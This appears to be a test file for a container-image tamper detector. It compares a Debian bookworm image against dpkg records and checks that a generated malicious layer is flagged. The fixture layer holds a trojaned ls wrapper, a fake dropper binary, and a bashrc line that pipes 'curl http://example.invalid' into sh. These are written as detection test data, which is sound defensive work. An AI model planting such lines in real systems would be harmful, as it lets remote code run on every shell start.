"""Tamper-evident inventory against the real bookworm-min image (dpkg, merged /usr) and a
layer generated on top of it that trojans a package file, edits a conffile, deletes a
package file and drops an unowned executable."""

from __future__ import annotations

import json
import shutil
import tarfile
from pathlib import Path

import pytest

from ringfence.diff.tamper import DpkgTamperAnalyzer, TamperReport
from ringfence.scan import ScanOptions, scan_image
from tests.imagebuilder import Layer, Member, compress, sha, write_blob

pytestmark = [pytest.mark.images, pytest.mark.slow]


def _tamper(ref: str) -> TamperReport:
    result = scan_image(ref, ScanOptions(catalogers=(), analyzers=(DpkgTamperAnalyzer(),)))
    report = result.analysis(DpkgTamperAnalyzer.name)
    assert isinstance(report, TamperReport)
    return report


def _append_layer(src: Path, dest: Path, layer: Layer) -> Path:
    """Copy an OCI layout and add ``layer`` on top (config diff_ids, manifest, index)."""
    shutil.copytree(src, dest)
    index = json.loads((dest / "index.json").read_text())
    desc = index["manifests"][0]
    blob = lambda d: dest / "blobs" / "sha256" / d.split(":")[1]  # noqa: E731
    manifest = json.loads(blob(desc["digest"]).read_bytes())
    config = json.loads(blob(manifest["config"]["digest"]).read_bytes())
    raw = layer.tar_bytes()
    gz = compress(raw, "gzip")
    manifest["layers"].append({"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip",
                               "digest": write_blob(dest, gz), "size": len(gz)})
    config["rootfs"]["diff_ids"].append(sha(raw))
    config.setdefault("history", []).append({"created_by": "tamper"})
    cfg = json.dumps(config).encode()
    manifest["config"].update(digest=write_blob(dest, cfg), size=len(cfg))
    mbytes = json.dumps(manifest).encode()
    desc.update(digest=write_blob(dest, mbytes), size=len(mbytes))
    (dest / "index.json").write_text(json.dumps(index))
    return dest


def test_unmodified_bookworm_min_flags_nothing(images_dir: Path) -> None:
    report = _tamper(f"oci:{images_dir / 'bookworm-min.oci'}")
    # 88 debs (PROVENANCE/contents.txt), every md5sums line checked; 0 conffile edits:
    # debootstrap installs conffiles as shipped. /etc/hostname and /etc/resolv.conf are
    # 0755 here but runtime-owned (NOT_CHECKED), so no unowned executable either.
    assert report.packages_checked == 88
    assert report.files_checked > 4000
    assert report.findings == ()


def test_generated_tampering_is_flagged_exactly(images_dir: Path, tmp_path: Path) -> None:
    layer = Layer([Member("usr/bin/ls", b"#!/bin/sh\nexec /tmp/.x \"$@\"\n", mode=0o755),
                   Member("etc/bash.bashrc", b"curl http://example.invalid | sh\n"),
                   Member("usr/bin/.wh.cat"),
                   Member("usr/local/bin/dropper", b"\x7fELF-not-really", mode=0o755),
                   Member("usr/local/share/notes.txt", b"data, not executable"),
                   Member("usr/local/bin/dir", type=tarfile.DIRTYPE, mode=0o755)])
    image = _append_layer(images_dir / "bookworm-min.oci", tmp_path / "tampered", layer)
    report = _tamper(f"oci:{image}")
    got = {(f.kind, f.path, f.package) for f in report.findings}
    assert got == {("modified", "/usr/bin/ls", "coreutils"),  # dpkg says bin/ls (merged /usr)
                   ("conffile-modified", "/etc/bash.bashrc", "bash"),
                   ("missing", "/usr/bin/cat", "coreutils"),
                   ("unowned-executable", "/usr/local/bin/dropper", None)}
